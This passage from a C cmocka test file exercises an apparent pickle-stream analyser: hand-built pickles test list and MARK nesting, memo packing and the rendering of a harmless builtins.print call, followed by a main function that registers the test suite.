 * frame, and 40 nested list-and-MARK pairs closed by APPENDS. */
static void test_fast_loop_growth(void **state)
{
    (void)state;
    static uint8_t buf[2048];
    size_t n = 0;
    buf[n++] = 0x80; buf[n++] = 4; buf[n++] = 0x95;
    size_t frame_len_at = n;
    n += 8;
    buf[n++] = ']'; buf[n++] = '(';
    for (int i = 0; i < 300; i++) {
        buf[n++] = 'K'; buf[n++] = (uint8_t)i;
    }
    buf[n++] = 'e';
    for (int i = 0; i < 40; i++) {
        buf[n++] = ']'; buf[n++] = '(';
    }
    for (int i = 0; i < 40; i++)
        buf[n++] = 'e';
    buf[n++] = '0';
    buf[n++] = '.';
    uint64_t flen = n - frame_len_at - 8;
    for (int i = 0; i < 8; i++)
        buf[frame_len_at + (size_t)i] = (uint8_t)(flen >> (8 * i));
    vm_case c = {"fast_loop_growth", (const char *)buf, n, 1, 0, "", ""};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_true(complete);
    assert_int_equal(r->n_findings, 0);
    assert_int_equal(r->streams[0].opcodes, 2 + 2 + 300 + 1 + 80 + 40 + 2);
    pj_report_free(r);
}

/* Memo values packed into 8-byte cells and kept whole in side slots: ints
 * at the edges of the packed range, a side slot freed by a packed value and
 * reused, a side value replaced in place.  CPython returns the same tuple. */
static void test_memo_cells(void **state)
{
    (void)state;
    static const char p[] =
        "\x80\x04" "cbuiltins\nprint\n\x8a\x08\xff\xff\xff\xff\xff\xff\xff\x07q\x00"
        "0\x8a\x08\x00\x00\x00\x00\x00\x00\x00\xf8q\x01"
        "0\x8a\x08\x00\x00\x00\x00\x00\x00\x00\x08q\x02"
        "0G?\xf8\x00\x00\x00\x00\x00\x00q\x03"
        "0\x8c\x02" "abq\x03"
        "0Nq\x04"
        "0\x89q\x02"
        "0(h\x00h\x01h\x02h\x03h\x04tR.";
    vm_case c = {"memo_cells", p, sizeof p - 1, 1, 0, NULL, NULL};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_true(complete);
    assert_int_equal(r->n_calls, 1);
    assert_string_equal(r->calls[0].args,
                        "(576460752303423487, -576460752303423488, False, 'ab', None)");
    pj_report_free(r);
}

int main(void)
{
    enum { N = sizeof cases / sizeof cases[0] };
    enum { X = 14 }; /* tests after the table's */
    struct CMUnitTest tests[2 * N + X];
    static char hot_names[N][80];
    for (size_t i = 0; i < N; i++) {
        tests[i] = (struct CMUnitTest){cases[i].name, test_case, NULL, NULL, (void *)&cases[i]};
        snprintf(hot_names[i], sizeof hot_names[i], "hot_%s", cases[i].name);
        tests[N + X + i] =
            (struct CMUnitTest){hot_names[i], test_case_hot, NULL, NULL, (void *)&cases[i]};
    }
    tests[N] = (struct CMUnitTest)cmocka_unit_test(test_all_opcodes_covered);
    tests[N + 1] = (struct CMUnitTest)cmocka_unit_test(test_call_rendering);
    tests[N + 2] = (struct CMUnitTest)cmocka_unit_test(test_billion_laughs);
    tests[N + 3] = (struct CMUnitTest)cmocka_unit_test(test_opcode_limit);
    tests[N + 4] = (struct CMUnitTest)cmocka_unit_test(test_memo_limit);
    tests[N + 5] = (struct CMUnitTest)cmocka_unit_test(test_payload_then_garbage_then_pickle);
    tests[N + 6] = (struct CMUnitTest)cmocka_unit_test(test_extra_pickle_and_trailing);
    tests[N + 7] = (struct CMUnitTest)cmocka_unit_test(test_sklearn_version_late_key);
    tests[N + 8] = (struct CMUnitTest)cmocka_unit_test(test_memo_sparse_then_dense);
    tests[N + 9] = (struct CMUnitTest)cmocka_unit_test(test_fast_loop_growth);
    tests[N + 10] = (struct CMUnitTest)cmocka_unit_test(test_memo_cells);
    tests[N + 11] = (struct CMUnitTest)cmocka_unit_test(test_max_opcode_proto);
    tests[N + 12] = (struct CMUnitTest)cmocka_unit_test(test_many_marks);
    tests[N + 13] = (struct CMUnitTest)cmocka_unit_test(test_memo_side_slots_reused);
    return _cmocka_run_group_tests("vm", tests, 2 * N + X, NULL, NULL);
}
